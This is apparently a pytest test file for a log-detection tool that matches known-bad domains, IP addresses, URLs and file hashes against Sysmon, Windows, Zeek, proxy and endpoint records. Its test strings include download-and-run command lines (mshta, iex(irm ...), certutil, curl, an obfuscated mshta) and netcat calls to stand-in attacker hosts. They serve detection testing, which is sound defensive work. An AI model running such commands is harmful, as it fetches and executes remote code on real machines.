"""Which records name an indicator, and in which field: parents of names, exact URLs, hashes by kind, free text."""

from __future__ import annotations

import pickle
import time
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

import builders as b
from douse.content.fields import field_table
from douse.content.logsources import log_sources
from douse.indicators.known import Known, Origin
from douse.indicators.places import NEEDS, _places, fields_of, interests
from douse.indicators.values import value_of
from douse.indicators.watch import Hit, Watch
from douse.model import Event, Source, Value

SHA256, MD5 = "ca97" * 16, "0cc175b9c0f1b6a831c399e269772661"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
ALL = frozenset({"domain-name", "url", "ipv4-addr", "ipv6-addr", "file"})


def watch(*texts: str) -> Watch:
    return Watch(Known(*value_of(text), (Origin("ioc.txt:1"),)) for text in texts)


def seen(on: Watch, channel: str, event_id: int, **fields: Value) -> list[tuple[str, str, str]]:
    """What was seen: the indicator, the field, the text."""
    event = b.event(channel, event_id, 0, {name.replace("__", "."): value for name, value in fields.items()})
    return [(hit.known.value, field, text) for hit in on.match(event) for field, text in hit.fields]


def named(on: Watch, text: str) -> list[str]:
    """The indicators that a command line names."""
    return [value for value, _, _ in seen(on, b.SYSMON, 1, CommandLine=text)]


@pytest.mark.parametrize(("name", "found"), [
    ("bad.example", True), ("CDN.Bad.Example", True), ("a.b.c.bad.example.", True), ("bad.example:443", True),
    ("notbad.example", False), ("bad.example.org", False), ("example", False), ("", False), ("-", False),
    ("xn--bcher-kva.bad.example", True), ("bücher.bad.example", True), ("x" * 300 + ".bad.example", False),
])
def test_a_domain_and_what_lies_below_it(name: str, found: bool) -> None:
    assert bool(seen(watch("bad.example"), b.SYSMON, 22, QueryName=name)) is found


def test_the_nearest_parent_is_named() -> None:
    on = watch("bad.example", "cdn.bad.example")
    assert [value for value, _, _ in seen(on, b.SYSMON, 22, QueryName="x.cdn.bad.example")] == ["cdn.bad.example"]


def test_answers_of_a_name_server() -> None:
    on = watch("bad.example", "203.0.113.7", "2001:db8::1")
    found = seen(on, b.SYSMON, 22, QueryName="fine.example",
                 QueryResults="type:  5 cdn.bad.example;::ffff:203.0.113.7;2001:DB8:0::1;198.51.100.1;")
    assert found == [("bad.example", "QueryResults", "cdn.bad.example"), ("203.0.113.7", "QueryResults", "203.0.113.7"),
                     ("2001:db8::1", "QueryResults", "2001:db8::1")]
    assert seen(on, "Zeek/dns", 0, query="fine.example", answers=["cdn.bad.example", "203.0.113.7"])


@pytest.mark.parametrize(("channel", "event_id", "fields"), [
    (b.SYSMON, 3, {"DestinationIp": "203.0.113.7"}), (b.SYSMON, 3, {"SourceIp": "203.0.113.7"}),
    (b.SYSMON, 3, {"DestinationIp": "::ffff:203.0.113.7"}),
    ("Security", 5156, {"DestAddress": "203.0.113.7"}), ("Zeek/conn", 0, {"id__resp_h": "203.0.113.7"}),
    ("Zeek/ssl", 0, {"id__resp_h": "203.0.113.7"}), ("Proxy/access", 0, {"dst_ip": "203.0.113.7"}),
    ("Proxy/access", 0, {"c-uri": "203.0.113.7:443"}), ("Firewall/traffic", 0, {"dst_ip": "203.0.113.7"}),
    ("WebServer/access", 0, {"src_ip": "203.0.113.7"}), ("MDE/DeviceNetworkEvents", 3, {"RemoteIP": "203.0.113.7"}),
    ("MDE/DeviceEvents", 0, {"RemoteIP": "203.0.113.7"}), ("CEF/event", 0, {"dst": "203.0.113.7"}),
])
def test_addresses_and_networks(channel: str, event_id: int, fields: dict[str, str]) -> None:
    for known in ("203.0.113.7", "203.0.113.0/24", "203.0.112.0/20"):
        assert [value for value, _, _ in seen(watch(known), channel, event_id, **fields)] == [known]
    assert not seen(watch("203.0.113.8", "203.0.114.0/24", "2001:db8::/32"), channel, event_id, **fields)


def test_networks_of_ipv6() -> None:
    on = watch("2001:db8::/48", "2001:db8:1::1")
    assert seen(on, b.SYSMON, 3, DestinationIp="2001:0db8:0000:0005:0000:0000:0000:0001")
    assert seen(on, b.SYSMON, 3, DestinationIp="2001:db8:1:0:0:0:0:1")
    assert not seen(on, b.SYSMON, 3, DestinationIp="2001:db8:1::2")
    assert not seen(on, b.SYSMON, 3, DestinationIp="0.0.0.1")


@pytest.mark.parametrize(("channel", "event_id", "fields"), [
    *((b.SYSMON, number, {"Hashes": f"SHA1=00,MD5={MD5.upper()},SHA256={SHA256.upper()},IMPHASH={'0' * 32}"})
      for number in (1, 6, 7, 23, 26, 29)),
    (b.SYSMON, 15, {"Hash": f"SHA256={SHA256},MD5={MD5}"}),
    ("MDE/DeviceFileEvents", 11, {"SHA256": SHA256, "MD5": MD5}),
    ("MDE/DeviceProcessEvents", 1, {"SHA256": SHA256, "MD5": MD5}),
    ("MDE/AlertEvidence", 0, {"SHA256": SHA256, "MD5": MD5}), ("Zeek/files", 0, {"sha256": SHA256, "md5": MD5}),
    ("MDE/DeviceNetworkEvents", 3, {"InitiatingProcessSHA256": SHA256, "InitiatingProcessMD5": MD5}),
])
def test_hashes(channel: str, event_id: int, fields: dict[str, str]) -> None:
    assert {value for value, _, _ in seen(watch(SHA256, MD5), channel, event_id, **fields)} == {SHA256, MD5}
    assert not seen(watch("ab" * 32, "ab" * 16), channel, event_id, **fields)


def test_an_imphash_is_no_md5() -> None:
    assert not seen(watch(MD5), b.SYSMON, 1, Hashes=f"SHA256={SHA256},IMPHASH={MD5}")


@pytest.mark.parametrize(("channel", "event_id", "fields"), [
    ("Proxy/access", 0, {"c-uri": ["http://files.bad.example/a?x=1", "/a?x=1"]}),
    ("Zeek/http", 0, {"c-uri": "http://files.bad.example:80/a?x=1"}),
    ("Proxy/access", 0, {"cs-referrer": "https://files.bad.example/a?x=1"}),
    ("MDE/DeviceNetworkEvents", 3, {"RemoteUrl": "https://files.bad.example/a?x=1"}),
    ("MDE/DeviceFileEvents", 11, {"FileOriginUrl": "https://files.bad.example/a?x=1"}),
    ("Microsoft-Windows-Bits-Client/Operational", 59, {"url": "https://files.bad.example/a?x=1"}),
    (b.SYSMON, 15, {"Contents": "[ZoneTransfer]  ZoneId=3  HostUrl=https://files.bad.example/a?x=1"}),
    ("Microsoft-Windows-Windows Defender/Operational", 1116,
        {"Path": "webfile:_C:\\x.exe|https://files.bad.example/a?x=1|pid:1"}),
])
def test_urls(channel: str, event_id: int, fields: dict[str, Value]) -> None:
    url = "https://files.bad.example/a?x=1"
    found = {value for value, _, _ in seen(watch(url, "bad.example"), channel, event_id, **fields)}
    assert found == {url, "bad.example"}
    others = watch("https://files.bad.example/", "https://files.bad.example/a", "https://files.bad.example/a?x=12")
    assert not seen(others, channel, event_id, **fields)  # a URL's host alone is no match


def test_a_tunnels_host_is_a_domain_and_no_url() -> None:
    on = watch("https://bad.example/", "bad.example")
    assert [value for value, _, _ in seen(on, "Proxy/access", 0, **{"c-uri": "bad.example:443"})] == ["bad.example"]
    found = seen(watch("https://bad.example/a", "bad.example"), "Proxy/access", 0, **{
        "c-uri": "bad.example:443", "cs-host": "bad.example"})
    assert found == [("bad.example", "cs-host", "bad.example"), ("bad.example", "c-uri", "bad.example")]
    assert not seen(on, "Proxy/access", 0, **{"c-uri": "/bad.example/x"})


@pytest.mark.parametrize(("channel", "event_id", "field"), [
    (b.SYSMON, 1, "CommandLine"), ("Security", 4688, "CommandLine"), (POWERSHELL, 4104, "ScriptBlockText"),
    (POWERSHELL, 4103, "Payload"), (b.SYSMON, 13, "Details"), ("Security", 4657, "NewValue"),
    ("System", 7045, "ImagePath"),
    ("Security", 4698, "TaskContent"), ("MDE/DeviceProcessEvents", 1, "ProcessCommandLine"),
    ("Windows PowerShell", 400, "Data"),
    ("MDE/DeviceRegistryEvents", 13, "RegistryValueData"), ("PowerShellCore/Operational", 4104, "ScriptBlockText"),
])
def test_free_text(channel: str, event_id: int, field: str) -> None:
    on = watch("bad.example")
    assert seen(on, channel, event_id, **{field: "mshta https://cdn.bad.example/x.mp3 # I am human\\1"}) == [
        ("bad.example", field, "cdn.bad.example")]


@pytest.mark.parametrize("text", [
    "mshta https://bad.example/a.hta", 'powershell -c "iwr(\'https://bad.example/a.hta\')"', "curl bad.example/a.hta",
    "iex(irm http://bad.example/a.hta);", "[https://bad.example/a.hta]", "x=https://user:pw@bad.example:443/a.hta, y",
    "msht^a ht^tps://bad.exa^mple/a.h^ta", "start https:\\\\bad.example\\a.hta", "(see https://bad.example/a.hta).",
    "https://BAD.example/%61.hta#top|more", "<https://bad.example/a.hta>", "url:https://bad.example/a.hta!",
])
def test_urls_in_free_text(text: str) -> None:
    assert named(watch("https://bad.example/a.hta"), text) == ["https://bad.example/a.hta"]


@pytest.mark.parametrize("text", [
    "mshta https://bad.example/", "mshta https://bad.example/a.htaccess", "mshta https://bad.example/a.hta?x=1",
    "mshta https://bad.example:8080/a.hta", "mshta https://other.example/bad.example/a.hta",
    "mshta ftp://bad.example/a.hta",
    "notbad.example/a.hta", "", "no name here", "bad.example", "bad.example:443",
])
def test_another_url_in_free_text_is_not_it(text: str) -> None:
    assert named(watch("https://bad.example/a.hta"), text) == []


def test_urls_of_addresses_and_ftp_in_free_text() -> None:
    assert named(watch("http://203.0.113.7:8080/x"),
        "certutil -f http://203.0.113.7:8080/x y") == ["http://203.0.113.7:8080/x"]
    assert named(watch("http://[2001:db8::1]/x"), "curl http://[2001:db8::1]/x") == ["http://[2001:db8::1]/x"]
    assert named(watch("ftp://bad.example/x"), "ftp://bad.example/x") == ["ftp://bad.example/x"]
    assert named(watch("203.0.113.7", "2001:db8::1"), "nc 203.0.113.7 80; nc [2001:db8::1]:80") == ["203.0.113.7",
        "2001:db8::1"]


def test_both_schemes_of_one_url_are_told_and_a_field_once() -> None:
    on = watch("http://bad.example/a", "https://bad.example/a")
    assert named(on, "https://bad.example/a https://bad.example/a") == ["http://bad.example/a", "https://bad.example/a"]


def test_one_hit_for_an_indicator_with_all_its_fields() -> None:
    (hit,
        ) = watch("bad.example").match(b.event("Zeek/http", 0, 0,
            {"host": "bad.example", "c-uri": "http://bad.example/x"}))
    assert isinstance(hit, Hit)
    assert [field for field, _ in hit.fields] == ["host", "c-uri"]


def test_field_names_have_no_case_and_odd_values_no_effect() -> None:
    on = watch("bad.example", "203.0.113.7")
    assert seen(on, b.SYSMON.upper(), 22, queryname="bad.example")
    for odd in (None, "", 7, True, 1.5, [], ["", "-"]):
        assert not seen(on, b.SYSMON, 22, QueryName=odd, QueryResults=odd)
    assert not seen(on, b.SYSMON, 99, QueryName="bad.example")
    assert not seen(on, "Application", 22, QueryName="bad.example")


def test_nothing_to_watch_for_wants_nothing() -> None:
    nothing = Watch()
    assert not nothing
    assert nothing.interests() == frozenset()
    assert not seen(nothing, b.SYSMON, 22, QueryName="bad.example")


def test_only_records_that_can_carry_one_of_the_types_are_wanted() -> None:
    hashes, names = watch(SHA256).interests(), watch("bad.example").interests()
    sysmon = b.SYSMON.lower()
    assert {(sysmon, 7), (sysmon, 29)} <= hashes
    assert (sysmon, 22) not in hashes
    assert (sysmon, 22) in names
    assert (sysmon, 7) not in names
    assert hashes | names <= interests(ALL) == frozenset(_places())


def test_what_is_remembered_is_bounded() -> None:
    on = watch("bad.example")
    seen(on, b.SYSMON, 22, QueryName="cdn.bad.example")
    for size in (1_025, 100_000):
        assert named(on, "x" * size + " cdn.bad.example") == ["bad.example"]
        seen(on, b.SYSMON, 22, QueryName="x" * size)
    caches = {way: look.cache_info() for way, look in on._remembered.items() if hasattr(look, "cache_info")}
    assert caches["name"].currsize == 1
    assert caches["text"].currsize == 0
    assert all(info.maxsize is not None and info.maxsize <= 20_000 for info in caches.values())


def test_it_can_be_sent_to_another_process() -> None:
    on = watch("bad.example", "203.0.113.0/24", SHA256, "https://bad.example/a")
    seen(on, b.SYSMON, 22, QueryName="bad.example")  # fills what it remembers
    sent = pickle.loads(pickle.dumps(on))
    assert sent.known == on.known
    assert seen(sent, b.SYSMON, 22, QueryName="x.bad.example")


def test_the_places_are_channels_and_fields_that_logs_have() -> None:
    """A misspelt field would never be seen: of the records whose fields we know, each has all that is looked at."""
    channels = {place.channel.lower() for places in log_sources().categories.values() for place in places}
    channels |= {channel.lower() for listed in log_sources().services.values() for channel in listed}
    checked = 0
    for (channel, number), fields in _places().items():
        assert channel in channels or channel.startswith(("zeek/", "cef/", "mde/")), channel
        assert all(way in NEEDS for _, way in fields)
        known = None if number is None else field_table().records.get((channel, number))
        if known is not None:
            checked += 1
            assert {name.lower() for name, _ in fields} <= {name.lower() for name in known}, (channel, number)
    assert checked > 20
    assert fields_of(b.SYSMON, 1, frozenset()) == ()


HOSTILE = ("a." * 20_000, "." * 50_000, "a" * 100_000, "bad.example/" * 5_000, "[" * 50_000, "[::" * 20_000,
           "bad.example:" * 5_000, "https://" * 10_000, "@" * 50_000, "\\" * 50_000, "%41" * 20_000, "ü." * 20_000,
           "bad.example/." * 5_000, "bad.example" + "/.." * 20_000, ";" * 50_000, "type:" * 10_000, "=," * 20_000)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: f"{text[:8]!r}x{len(text)}")
def test_no_text_is_slow(text: str) -> None:
    on = watch("bad.example", "https://bad.example/a", "203.0.113.0/24", SHA256)
    start = time.process_time()
    for channel, number in ((b.SYSMON, 1), (b.SYSMON, 22), (b.SYSMON, 3), ("Proxy/access", 0), ("Zeek/http", 0)):
        fields: dict[str, Value] = {name: text for name, _ in fields_of(channel, number, ALL)}
        on.match(b.event(channel, number, 0, fields))
    assert time.process_time() - start < 2


@given(st.text(max_size=200), st.sampled_from(sorted(_places(), key=str)))
def test_any_text_in_any_field_is_looked_up(text: str, place: tuple[str, int | None]) -> None:
    fields: dict[str, Value] = {name: text for name, _ in fields_of(place[0], place[1] or 0, ALL)}
    event = Event(channel=place[0], event_id=place[1] or 0, time=datetime(2026, 1, 1, tzinfo=UTC), host="h",
        provider="p",
                  record_id=1, source=Source("x"), decode=lambda: fields)
    on = watch("bad.example", "203.0.113.7", SHA256, "https://bad.example/a")
    assert all(hit.known in on.known for hit in on.match(event))


@given(st.text(st.characters(blacklist_characters=".-_[:^`", blacklist_categories=("L", "N", "M", "Pc", "Cs")),
    max_size=30),
       st.text(st.characters(blacklist_characters=".-_/\\?:^`", blacklist_categories=("L", "N", "M", "Pc", "Cs")),
           max_size=30))
def test_a_domain_is_found_among_any_signs(before: str, after: str) -> None:
    assert named(watch("bad.example"), f"{before}cdn.bad.example{after}") == ["bad.example"]
